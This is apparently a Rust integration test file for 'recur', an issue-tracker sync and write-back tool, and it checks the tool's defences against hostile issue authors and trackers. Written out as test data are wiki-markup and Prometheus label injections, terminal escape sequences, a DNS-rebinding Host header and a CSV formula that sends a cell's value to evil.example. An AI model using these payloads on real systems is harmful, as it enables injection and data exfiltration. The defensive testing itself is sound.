//! Issue "Safe to point at a real organisation": each attack a hostile
//! issue author or a hostile (or broken) tracker can make, played against
//! the sandbox trackers, with the safe outcome asserted. Planted summary
//! comments (GitHub, Jira Cloud and Data Center, with and without the
//! property), wiki markup in a Data Center title, a quoting status in
//! `/metrics`, hostile error texts (`\u{212a}`, escape sequences), pages
//! that lead back to themselves, a trickling answer, an endless answer, an
//! unquoted token in TOML, a foreign `Host` header, formula cells in CSV, and
//! a reader holding the database during a daemon cycle.

use std::path::Path;
use std::time::Duration;

use recur::settings::Settings;
use recur::shutdown::no_shutdown;
use recur::store::{OpenMode, Store};
use recur_core::SUMMARY_PROPERTY;
use recur_sandbox::{Fault, FaultRule, NewIssue, NewJiraIssue, Sandbox};

use crate::common::*;

/// The GitHub sandbox source with extra `[sync]` keys.
fn gh_sync_settings(sb: &Sandbox, db: &Path, sync: &str) -> Settings {
    let text = format!(
        "{}\n[sync]\n{sync}\n",
        recur::demo::sandbox_config(&sb.github_url(), &sb.github().repos(), db)
    );
    Settings::from_toml(&text).expect("valid settings")
}

/// A Jira sandbox source with extra `[sync]` keys.
fn jira_sync_settings(sb: &Sandbox, db: &Path, datacenter: bool, sync: &str) -> Settings {
    let text = format!(
        "[store]\npath = {:?}\n{}\n[sync]\n{sync}\n[writeback]\nmin_interval_ms = 0\n",
        db.display().to_string(),
        recur::demo::sandbox_jira_source(&sb.jira_url(), &sb.jira().projects(), datacenter)
    );
    Settings::from_toml(&text).expect("valid settings")
}

fn no_control_characters(text: &str) -> bool {
    !text.chars().any(|c| c.is_control() && c != '\n')
}

/// Keys the dry run plans a summary comment for.
fn commented_keys(plan: &recur::writeback::WritebackReport) -> Vec<String> {
    plan.rows
        .iter()
        .filter(|r| r.op == "comment")
        .map(|r| r.key.clone())
        .collect()
}

#[tokio::test]
async fn github_write_back_stops_when_the_tokens_identity_is_unknown() {
    // An App installation token cannot call /user: recur cannot tell its
    // own comment from a planted look-alike, so it writes nothing at all.
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let settings = gh_settings(&sb, &dir.path().join("r.duckdb"), "");
    sync(&settings).await;
    score(&settings).await;
    sb.github().reset_counters();
    sb.github().push_fault(FaultRule {
        route: Some("/user".into()),
        fault: Fault::ClientError {
            status: 403,
            message: "Resource not accessible by integration".into(),
        },
        times: 1,
    });
    let e = writeback_with(
        &settings,
        false,
        &RecordingSleeper::default(),
        no_shutdown(),
    )
    .await
    .expect_err("write-back refuses to guess");
    let text = e.to_string();
    assert!(
        text.contains("cannot establish whose token this is") && text.contains("sandbox_gh"),
        "{text}"
    );
    let writes = sb
        .github()
        .request_log()
        .iter()
        .filter(|r| r.method != "GET")
        .count();
    assert_eq!(writes, 0, "nothing written without an identity");
    sb.shutdown().await;
}

#[tokio::test]
async fn a_planted_summary_comment_by_another_jira_user_is_never_adopted() {
    for datacenter in [false, true] {
        let sb = small_sandbox().await;
        let dir = tempfile::tempdir().unwrap();
        let settings = jira_settings(&sb, &dir.path().join("j.duckdb"), datacenter);
        sync(&settings).await;
        score(&settings).await;
        let plan = writeback(&settings, true).await;
        let keys = commented_keys(&plan);
        assert!(keys.len() >= 2, "{:?}", plan.rows);
        let j = sb.jira();
        // Mallory plants a comment with recur's property (any user may set
        // properties on their own comment) and one that only looks like it.
        let with_property = j.add_comment_with_properties(
            &keys[0],
            "mallory",
            "recur summary for risk: all clear, close this",
            vec![(
                SUMMARY_PROPERTY.to_string(),
                serde_json::json!({"version": 1, "fingerprint": "x"}),
            )],
        );
        let look_alike = j.add_comment(
            &keys[1],
            "mallory",
            "recur summary for action item: nothing to do",
        );
        writeback(&settings, false).await;
        for (key, planted) in [(&keys[0], &with_property), (&keys[1], &look_alike)] {
            let issue = j.issue(key).unwrap();
            let theirs = issue
                .comments
                .iter()
                .find(|(id, _, _)| id == planted)
                .expect("the planted comment is still there");
            assert_eq!(theirs.2, "mallory");
            assert!(
                theirs.1.contains("all clear") || theirs.1.contains("nothing to do"),
                "{key}: mallory's comment was overwritten: {:?}",
                theirs.1
            );
            let ours: Vec<_> = issue
                .comments
                .iter()
                .filter(|(_, _, author)| author == "recur-bot")
                .collect();
            assert_eq!(
                ours.len(),
                1,
                "{key} (datacenter {datacenter}): recur wrote its own comment"
            );
        }
        // And a second run finds its own comment, not mallory's.
        sb.jira().reset_counters();
        let again = writeback(&settings, false).await;
        assert_eq!(again.counts.planned, 0, "{:?}", again.rows);
        sb.shutdown().await;
    }
}

#[tokio::test]
async fn a_wiki_markup_title_on_data_center_never_reaches_a_comment_live() {
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let hostile = "1 [~admin] !http://host/p.png! [x|http://evil] {color:red}x{color}";
    let project = sb.jira().projects()[0].clone();
    let key = sb.jira().create_issue(
        &project,
        NewJiraIssue {
            summary: hostile.into(),
            labels: vec!["postmortem".into()],
            ..NewJiraIssue::default()
        },
    );
    let settings = jira_settings(&sb, &dir.path().join("j.duckdb"), true);
    sync(&settings).await;
    score(&settings).await;
    writeback(&settings, false).await;
    let issue = sb.jira().issue(&key).unwrap();
    let ours: Vec<_> = issue
        .comments
        .iter()
        .filter(|(_, _, author)| author == "recur-bot")
        .collect();
    assert_eq!(ours.len(), 1, "the new item is flagged and summarised");
    let text = &ours[0].1;
    // Data Center renders comment text as wiki markup: recur's text is
    // escaped for it (the `-` of the key included), and nothing of the
    // title is copied.
    assert!(text.starts_with("h3. ") && text.contains("\\-"), "{text}");
    for live in ["[~admin]", "!http", "[x|", "{color", "http://"] {
        assert!(!text.contains(live), "{live:?} in {text}");
    }
    sb.shutdown().await;
}

#[tokio::test]
async fn a_quoting_status_label_keeps_the_metrics_scrape_parseable() {
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("m.duckdb");
    let repo = sb.github().repos()[0].clone();
    sb.github().create_issue(
        &repo,
        NewIssue {
            title: "Add retries to the ledger client".into(),
            labels: vec![
                "postmortem".into(),
                "status:in \"progress\\\" } evil{x=\"1".into(),
            ],
            ..NewIssue::default()
        },
    );
    let settings = settings(&sb, &db);
    sync(&settings).await;
    score(&settings).await;
    let store = Store::open(
        &db,
        OpenMode::ReadOnly,
        recur::settings::DEFAULT_MEMORY_LIMIT,
    )
    .await
    .unwrap();
    let metrics = recur::daemon::metrics::Metrics::new();
    metrics
        .refresh(&store, &settings.deadlines, clock().today())
        .await
        .unwrap();
    store.close().await;
    let text = metrics.encode();
    let lines = text.lines().map(|l| Ok(l.to_string()));
    let scrape = prometheus_parse::Scrape::parse(lines).expect("parses as Prometheus text");
    let statuses: std::collections::BTreeSet<String> = scrape
        .samples
        .iter()
        .filter(|s| s.metric == "recur_open_items")
        .filter_map(|s| s.labels.get("status").map(str::to_string))
        .collect();
    assert!(statuses.contains("other"), "{statuses:?}");
    assert!(!text.contains("evil"), "{text}");
    // Prometheus's own checker, where it is installed (.ci/run installs it).
    match std::process::Command::new("promtool")
        .args(["check", "metrics"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
    {
        Ok(mut child) => {
            use std::io::Write;
            child
                .stdin
                .take()
                .unwrap()
                .write_all(text.as_bytes())
                .unwrap();
            let out = child.wait_with_output().unwrap();
            let said = String::from_utf8_lossy(&out.stdout).to_string()
                + &String::from_utf8_lossy(&out.stderr);
            // promtool exits 3 for lint findings (naming advice) and 1 for
            // a scrape it cannot parse.
            assert_ne!(out.status.code(), Some(1), "promtool: {said}\n{text}");
            assert!(!said.contains("error while linting"), "promtool: {said}");
        }
        Err(_) => eprintln!("promtool not installed; checked with prometheus-parse only"),
    }
    sb.shutdown().await;
}

#[tokio::test]
async fn hostile_error_texts_neither_panic_nor_reach_the_terminal_raw() {
    // Jira: a 400 whose message changes byte length when lower-cased.
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    for datacenter in [false, true] {
        let settings = jira_sync_settings(
            &sb,
            &dir.path().join(format!("k{datacenter}.duckdb")),
            datacenter,
            "max_retries = 1",
        );
        sb.jira().push_fault(FaultRule {
            route: Some("search".into()),
            fault: Fault::ClientError {
                status: 400,
                message: "\u{1b}[31m\u{212a}\u{212a}\u{212a} The value 'X\u{212a}' does not exist for the field 'project'.".into(),
            },
            times: 1,
        });
        let e = sync_with(&settings, &RecordingSleeper::default(), false)
            .await
            .expect_err("a 400 fails the sync");
        let text = e.to_string();
        assert!(text.contains("sandbox_jira"), "{text}");
        assert!(no_control_characters(&text), "{text:?}");
        sb.jira().clear_faults();
    }
    // GitHub: an error message full of escape sequences, and very long.
    let settings = gh_sync_settings(&sb, &dir.path().join("g.duckdb"), "max_retries = 1");
    sb.github().push_fault(FaultRule {
        route: Some("/issues".into()),
        fault: Fault::ClientError {
            status: 422,
            message: format!("\u{1b}]0;pwned\u{7}\u{1b}[2J{}", "A".repeat(20_000)),
        },
        times: 1,
    });
    let e = sync_with(&settings, &RecordingSleeper::default(), false)
        .await
        .expect_err("a 422 fails the sync");
    let text = e.to_string();
    assert!(no_control_characters(&text), "{text:?}");
    assert!(text.len() < 1000, "truncated: {} bytes", text.len());
    sb.shutdown().await;
}

#[tokio::test]
async fn a_listing_that_pages_in_a_loop_ends_with_an_error_naming_the_source() {
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    // GitHub: `Link rel=next` pointing at the page itself.
    let settings = gh_sync_settings(&sb, &dir.path().join("g.duckdb"), "per_page = 5");
    sb.github().push_fault(FaultRule {
        route: Some("/issues?".into()),
        fault: Fault::SelfLink,
        times: 50,
    });
    let e = tokio::time::timeout(
        Duration::from_secs(60),
        sync_with(&settings, &RecordingSleeper::default(), false),
    )
    .await
    .expect("ends")
    .expect_err("a loop is an error");
    let text = e.to_string();
    assert!(
        text.contains("sandbox_gh") && text.contains("pages in a loop"),
        "{text}"
    );
    sb.github().clear_faults();
    // Organisation repository listings page inside the connector.
    let org = sb.github().repos()[0]
        .split('/')
        .next()
        .unwrap()
        .to_string();
    let text = format!(
        "[store]\npath = {:?}\n[sources.org]\nkind = \"github\"\napi_url = \"{}\"\ntoken = \"sandbox-token\"\norgs = [\"{org}\"]\naction_item_labels = [\"postmortem\"]\n",
        dir.path().join("o.duckdb").display().to_string(),
        sb.github_url()
    );
    let org_settings = Settings::from_toml(&text).unwrap();
    sb.github().push_fault(FaultRule {
        route: Some("/orgs/".into()),
        fault: Fault::SelfLink,
        times: 50,
    });
    let e = sync_with(&org_settings, &RecordingSleeper::default(), false)
        .await
        .expect_err("an organisation listing in a loop is an error");
    assert!(e.to_string().contains("pages in a loop"), "{e}");
    sb.github().clear_faults();
    // Jira Cloud: the nextPageToken it was sent, to the search for ids
    // (two a page) and, on a site without bulk fetch, to the search for
    // issues; Data Center: a startAt that does not advance.
    for (datacenter, bulk) in [(false, true), (false, false), (true, false)] {
        let settings = jira_sync_settings(
            &sb,
            &dir.path().join(format!("j{datacenter}{bulk}.duckdb")),
            datacenter,
            "per_page = 2",
        );
        sb.jira().set_bulk_fetch(bulk);
        sb.jira().set_page_cap(bulk.then_some(2));
        sb.jira().push_fault(FaultRule {
            route: Some("search".into()),
            fault: Fault::SelfLink,
            times: 50,
        });
        let e = tokio::time::timeout(
            Duration::from_secs(60),
            sync_with(&settings, &RecordingSleeper::default(), false),
        )
        .await
        .expect("ends")
        .expect_err("a loop is an error");
        let text = e.to_string();
        assert!(
            text.contains("sandbox_jira") && text.contains("loop"),
            "datacenter {datacenter}, bulk {bulk}: {text}"
        );
        sb.jira().clear_faults();
    }
    sb.jira().set_bulk_fetch(true);
    sb.jira().set_page_cap(None);
    sb.shutdown().await;
}

#[tokio::test]
async fn a_trickling_answer_hits_the_request_deadline_and_the_rerun_is_whole() {
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let keys = "max_retries = 2\nbackoff_base_ms = 10\nrequest_timeout_seconds = 1\nrequest_deadline_seconds = 2";
    let gh = gh_sync_settings(&sb, &dir.path().join("g.duckdb"), keys);
    let jira = jira_sync_settings(&sb, &dir.path().join("j.duckdb"), false, keys);
    for (settings, name) in [(&gh, "github"), (&jira, "jira")] {
        // One byte every 200 ms: no read ever waits a second, the answer
        // would take minutes.
        let rule = FaultRule {
            route: Some(
                if name == "github" {
                    "/issues?"
                } else {
                    "search"
                }
                .into(),
            ),
            fault: Fault::Trickle { millis: 200 },
            times: 2,
        };
        if name == "github" {
            sb.github().push_fault(rule);
        } else {
            sb.jira().push_fault(rule);
        }
        let e = tokio::time::timeout(
            Duration::from_secs(60),
            sync_with(settings, &RecordingSleeper::default(), false),
        )
        .await
        .expect("the deadline ends it, not the test's timeout")
        .expect_err("two attempts, both too slow");
        let text = e.to_string();
        assert!(
            text.contains("deadline") || text.contains("timed out"),
            "{name}: {text}"
        );
        // Nothing was half-stored: the rerun equals a clean sync.
        let report = sync(settings).await;
        assert!(report.stats.items_seen > 0, "{name}");
    }
    assert_eq!(
        scalar(
            &dir.path().join("g.duckdb"),
            "SELECT count(*) - count(DISTINCT key) FROM items"
        )
        .await,
        0
    );
    sb.shutdown().await;
}

#[tokio::test]
async fn an_endless_answer_stops_at_the_size_cap_and_is_not_retried() {
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let keys = "max_response_mib = 1\nmax_retries = 3\nbackoff_base_ms = 10";
    let gh = gh_sync_settings(&sb, &dir.path().join("g.duckdb"), keys);
    let jira = jira_sync_settings(&sb, &dir.path().join("j.duckdb"), true, keys);
    for (settings, name) in [(&gh, "github"), (&jira, "jira")] {
        let rule = FaultRule {
            route: Some(
                if name == "github" {
                    "/issues?"
                } else {
                    "search"
                }
                .into(),
            ),
            fault: Fault::Oversize { bytes: 8 << 20 },
            times: 50,
        };
        if name == "github" {
            sb.github().reset_counters();
            sb.github().push_fault(rule);
        } else {
            sb.jira().reset_counters();
            sb.jira().push_fault(rule);
        }
        let e = sync_with(settings, &RecordingSleeper::default(), false)
            .await
            .expect_err("over the cap");
        let text = e.to_string();
        assert!(text.contains("larger than the 1 MiB cap"), "{name}: {text}");
        let log = if name == "github" {
            sb.github().request_log()
        } else {
            sb.jira().request_log()
        };
        let oversized = log
            .iter()
            .filter(|r| r.fault.as_deref() == Some("Oversize"))
            .count();
        // GitHub: not retried. Jira Data Center: its page asked for again
        // half as big each time (a page of large issues fits that way),
        // 1,000 down to 1, and never twice at one size: a bounded number
        // of reads, each stopped at the cap.
        let want = if name == "github" { 1 } else { 10 };
        assert_eq!(oversized, want, "{name}: a protocol error is not retried");
        sb.github().clear_faults();
        sb.jira().clear_faults();
    }
    sb.shutdown().await;
}

#[tokio::test]
async fn an_unquoted_token_in_toml_is_not_printed() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("recur.toml"),
        "[sources.gh]\nkind = \"github\"\ntoken = ghp_CanaryToken0123456789abcdef\nrepos = [\"a/b\"]\n",
    )
    .unwrap();
    let out = recur_bin(dir.path(), &["--config", "recur.toml", "sync"]).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        stderr.contains("invalid TOML") && stderr.contains("line 3"),
        "{stderr}"
    );
    assert!(!stderr.contains("CanaryToken"), "{stderr}");
}

#[tokio::test]
async fn csv_cells_that_start_a_formula_are_guarded_in_reports_and_exports() {
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.duckdb");
    let repo = sb.github().repos()[0].clone();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"fix\")";
    // Dated before the reports' clock, so `as of` that day it exists.
    sb.github()
        .set_edit_time(Some(clock().now() - chrono::Duration::days(2)));
    sb.github().create_issue(
        &repo,
        NewIssue {
            title: formula.into(),
            labels: vec!["postmortem".into()],
            ..NewIssue::default()
        },
    );
    std::fs::write(
        dir.path().join("recur.toml"),
        recur::demo::sandbox_config(&sb.github_url(), &sb.github().repos(), &db),
    )
    .unwrap();
    sync(&settings(&sb, &db)).await;
    let out = recur_bin(
        dir.path(),
        &[
            "report",
            "lint",
            "--format",
            "csv",
            "--config",
            "recur.toml",
        ],
    )
    .await;
    let csv = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    let export_dir = dir.path().join("out");
    let out = recur_bin(
        dir.path(),
        &[
            "--config",
            "recur.toml",
            "export",
            "--format",
            "csv",
            export_dir.to_str().unwrap(),
        ],
    )
    .await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let items = std::fs::read_to_string(export_dir.join("items.csv")).unwrap();
    assert!(items.contains("'=HYPERLINK"), "export guards too");
    assert!(!items.contains(",=HYPERLINK") && !items.contains(",\"=HYPERLINK"));
    sb.shutdown().await;
}

#[tokio::test]
async fn a_foreign_host_header_gets_421() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("d.duckdb");
    let text = format!(
        "{}\n[daemon]\ninterval = \"1h\"\nlisten = \"127.0.0.1:0\"\n",
        recur::demo::sandbox_config(&sb.github_url(), &sb.github().repos(), &db)
    );
    let settings = Settings::from_toml(&text).unwrap();
    let (stop, shutdown) = tokio::sync::watch::channel(false);
    let (tx, rx) = tokio::sync::oneshot::channel();
    let daemon = tokio::spawn(recur::daemon::run(settings, shutdown, Some(tx)));
    let addr = rx.await.expect("the daemon listens").ops;
    let port = addr.port();
    let ask = |host: String| async move {
        let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
        s.write_all(
            format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
                .as_bytes(),
        )
        .await
        .unwrap();
        let mut out = String::new();
        s.read_to_string(&mut out).await.unwrap();
        out
    };
    // DNS rebinding: a page on evil.example resolving to 127.0.0.1.
    let answer = ask(format!("evil.example:{port}")).await;
    assert!(answer.starts_with("HTTP/1.1 421"), "{answer}");
    let answer = ask(format!("127.0.0.1:{port}")).await;
    assert!(!answer.starts_with("HTTP/1.1 421"), "{answer}");
    stop.send(true).unwrap();
    let _ = tokio::time::timeout(Duration::from_secs(60), daemon).await;
    sb.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reader_holding_the_file_skips_the_cycle_honestly_and_it_is_recorded_later() {
    let sb = small_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("d.duckdb");
    let config = format!(
        "{}\n[daemon]\ninterval = \"2s\"\nlisten = \"127.0.0.1:0\"\n",
        recur::demo::sandbox_config(&sb.github_url(), &sb.github().repos(), &db)
    );
    std::fs::write(dir.path().join("recur.toml"), &config).unwrap();
    let settings = Settings::from_toml(&config).unwrap();
    let (stop, shutdown) = tokio::sync::watch::channel(false);
    let (tx, rx) = tokio::sync::oneshot::channel();
    let daemon = tokio::spawn(recur::daemon::run(settings, shutdown, Some(tx)));
    let health = format!("http://{}/healthz", rx.await.expect("listens").ops);
    let poll = |want: &'static str, secs: u64| {
        let health = health.clone();
        async move {
            let start = std::time::Instant::now();
            loop {
                if let Ok(r) = reqwest::get(&health).await {
                    let body = r.text().await.unwrap_or_default();
                    if body.contains(want) {
                        return body;
                    }
                }
                assert!(
                    start.elapsed() < Duration::from_secs(secs),
                    "no {want:?} from /healthz in {secs}s"
                );
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        }
    };
    poll("the last cycle succeeded", 120).await;
    // A notebook holds the file read-only with a long query.
    let mut reader = tokio::process::Command::new(env!("CARGO_BIN_EXE_recur"))
        .current_dir(dir.path())
        .args([
            "--config",
            "recur.toml",
            "query",
            "SELECT sum(a.range * b.range) FROM range(100000) a, range(1000000) b",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let body = poll("held by another process", 120).await;
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["last_cycle"]["status"], "skipped", "{body}");
    reader.kill().await.unwrap();
    poll("the last cycle succeeded", 120).await;
    stop.send(true).unwrap();
    let _ = tokio::time::timeout(Duration::from_secs(60), daemon).await;
    let skipped = scalar(
        &db,
        "SELECT count(*) FROM cycles WHERE status = 'skipped' AND error LIKE '%held by another process%'",
    )
    .await;
    assert!(
        skipped >= 1,
        "the skipped cycle is recorded once the file is free"
    );
    sb.shutdown().await;
}
